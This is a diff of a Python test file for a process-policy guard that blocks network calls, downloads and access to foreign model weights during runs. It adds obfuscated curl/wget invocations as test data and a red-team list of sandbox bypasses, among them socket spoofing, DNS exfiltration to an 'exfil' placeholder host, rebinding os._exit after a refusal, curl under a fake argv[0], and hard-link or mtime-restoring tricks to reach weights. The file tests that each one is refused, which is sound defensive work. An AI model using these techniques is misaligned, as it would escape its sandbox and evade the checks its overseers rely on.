@@ -249,7 +249,19 @@ def test_other_programs_start(tmp_path: Path) -> None:
         (["sh", "-c", "python3 -m huggingface_hub.commands.huggingface_cli download x"], True),
         (["timeout", "30", "wget", "x"], True),
         (["git", "rev-parse", "HEAD"], False),
-        (["python3", "script.py", "-m", "pip"], False),  # arguments of a script, not of the interpreter
+        (["python3", "-X", "utf8", "-W", "ignore", "-m", "pip", "install", "x"], True),
+        (["nice", "-n", "5", "curl", "x"], True),  # wrappers with option values
+        (["timeout", "-s", "KILL", "5", "wget", "x"], True),
+        (["setsid", "flock", "/tmp/l", "busybox", "wget", "x"], True),
+        (["git", "-c", "alias.get=clone", "get", "https://example.invalid/m"], True),
+        (["bash", "-c", "--", "curl x"], True),
+        (["sh", "-c", "c=cu; ${c}rl x"], True),  # a program name assembled at run time
+        (["sh", "-c", "$'\\x63url' x"], True),
+        (["sh", "-c", "if true; then { wget x; }; fi"], True),
+        (["sh", "-c", "echo curl x | sh"], True),  # a shell reading its commands from a pipe
+        (["sh", "-c", 'eval "$CMD"'], True),
+        (["git", "remote", "-v"], False),
+        (["python3", "script.py", "--flag"], False),
         (["scontrol", "show", "job", "1"], False),
         ("echo 'pip install is a phrase here'", False),
     ],
@@ -301,3 +313,123 @@ def test_the_oracle_command_installs_it_before_anything_else(tmp_path: Path) -> 
     done = subprocess.run([sys.executable, "-c", textwrap.dedent(code)], cwd=tmp_path, capture_output=True, text=True)
     refused(done, tmp_path, "oracle data run: refused", "connecting to 127.0.0.1:9")
     assert socket.gethostname()  # the test's own process is unaffected
+
+
+# --- what a red team found and is now refused (2026-12-05) ------------------------------------------------------------
+BYPASSES = {
+    "socket family spoofed by a subclass": """
+        import socket
+        class S(socket.socket):
+            family = property(lambda self: socket.AF_UNIX)
+        S().connect(("127.0.0.1", 9))
+    """,
+    "str subclass shows the check another host": """
+        import socket
+        class H(str):
+            def __str__(self): return "10.96.0.1"
+        socket.socket().connect((H("127.0.0.1"), 9))
+    """,
+    "os._exit rebound to carry on after a refusal": """
+        import os, socket
+        os._exit = lambda code: None
+        socket.socket().connect(("127.0.0.1", 9))
+        print("went on")
+    """,
+    "reverse lookup as a DNS query": "import socket; socket.gethostbyaddr('secret-data.exfil.example.invalid')",
+    "raw packet socket": "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)",
+    "subinterpreter without hooks": "import _xxsubinterpreters as interpreters; interpreters.create()",
+    "host name changed to widen the allowance": "import socket; socket.sethostname('data.exfil.example.invalid')",
+    "curl started under another argv[0]": "import subprocess; subprocess.run(['ls', '-V'], executable='/usr/bin/curl')",
+    "curl through os.execv with another argv[0]": "import os; os.execv('/usr/bin/curl', ['ls', '-V'])",
+}
+
+
+@pytest.mark.parametrize("name", sorted(BYPASSES))
+def test_bypasses_found_by_the_red_team_are_refused(tmp_path: Path, name: str) -> None:
+    done = run(tmp_path, BYPASSES[name])
+    refused(done, tmp_path)
+    assert "went on" not in done.stdout
+
+
+def _foreign(tmp_path: Path) -> Path:
+    save_file({"w": torch.ones(4, 4)}, str(tmp_path / "foreign.safetensors"))
+    return tmp_path / "foreign.safetensors"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "open({path!r}, 'r+b').read()",
+        "import os; os.read(os.open({path!r}, os.O_RDONLY | os.O_APPEND), 10)",
+        "import os; os.read(os.open({path!r}, os.O_RDWR), 10)",
+        "import os; d = os.open(os.path.dirname({path!r}), os.O_RDONLY)\n"
+        "os.open('foreign.safetensors', os.O_RDONLY, dir_fd=d)",
+        "import os; os.makedirs('run', exist_ok=True); os.link({path!r}, 'run/x.safetensors')",
+        "import os; os.makedirs('run', exist_ok=True); os.rename({path!r}, 'run/x.safetensors')",
+        "import torch; torch.UntypedStorage.from_file({path!r}, False, 16)",
+    ],
+    ids=["r+b", "O_APPEND", "O_RDWR", "dir_fd", "hard-link-into-run", "rename-into-run", "from_file"],
+)
+def test_weights_reached_around_the_open_check_are_refused(tmp_path: Path, code: str) -> None:
+    path = _foreign(tmp_path)
+    done = run(tmp_path, ("import torch\n" if "torch" in code else "") + code.format(path=str(path)),
+               roots=[str(tmp_path / "run")])  # fmt: skip
+    assert refused(done, tmp_path)["format"] == "safetensors"
+
+
+def test_a_file_rewritten_in_place_with_its_mtime_put_back_is_judged_again(tmp_path: Path) -> None:
+    weights = _foreign(tmp_path).read_bytes()
+    code = f"""
+    import os
+    path = "decoy.bin"
+    with open(path, "wb") as out:
+        out.write(b"x" * {len(weights)})
+    stamp = os.stat(path).st_mtime_ns
+    open(path, "rb").read()  # judged: not weights (cached)
+    with open(path, "r+b") as out:
+        out.write(bytes.fromhex({weights.hex()!r}))
+    os.utime(path, ns=(stamp, stamp))
+    open(path, "rb").read()
+    """
+    refused(run(tmp_path, code), tmp_path, "decoy.bin")
+
+
+def test_torch_load_without_weights_only_is_judged_before_unpickling(tmp_path: Path) -> None:
+    """A pickle_module whose Unpickler raises no find_class event, and a file object of a foreign file."""
+    buffer = io.BytesIO()
+    torch.save({"w": torch.ones(2)}, buffer)
+    code = f"""
+    import io, pickle, torch
+    class Unpickler(pickle._Unpickler):
+        pass
+    module = type("m", (), {{"Unpickler": Unpickler, "load": pickle.load, "__name__": "m"}})
+    torch.load(io.BytesIO(bytes.fromhex({buffer.getvalue().hex()!r})), weights_only=False, pickle_module=module)
+    """
+    details = refused(run(tmp_path, code, command="train"), tmp_path, "without weights_only=True")
+    assert "BytesIO" in str(details["file"])
+
+
+def test_torch_load_of_an_open_file_of_the_commands_own_run_is_allowed(tmp_path: Path) -> None:
+    run_dir = tmp_path / "runs" / "r"
+    run_dir.mkdir(parents=True)
+    torch.save({"w": torch.ones(2)}, run_dir / "state.pt")
+    code = f"import torch\nwith open({str(run_dir / 'state.pt')!r}, 'rb') as f:\n    torch.load(f, weights_only=False)"
+    allowed(run(tmp_path, code, command="train", roots=[str(run_dir)]), tmp_path)
+
+
+def test_connecting_by_name_to_a_declared_endpoint_is_allowed(tmp_path: Path, local_server: str) -> None:
+    _, port = local_server.split(":")
+    code = f"import socket; socket.create_connection(('localhost', {port}), timeout=5).close()"
+    allowed(run(tmp_path, code, endpoints=[("localhost", int(port))]), tmp_path)
+
+
+def test_help_anywhere_on_the_command_line_is_no_exemption() -> None:
+    code = f"""
+    import sys
+    sys.path.insert(0, {str(REPO)!r})
+    from guards.process_policy import install_for_argv, current
+    install_for_argv(["train", "--config", "r.yaml", "--run-name", "--help"])
+    assert current() is not None and current().command == "train"
+    """
+    done = subprocess.run([sys.executable, "-c", textwrap.dedent(code)], capture_output=True, text=True)
+    assert done.returncode == 0, done.stderr
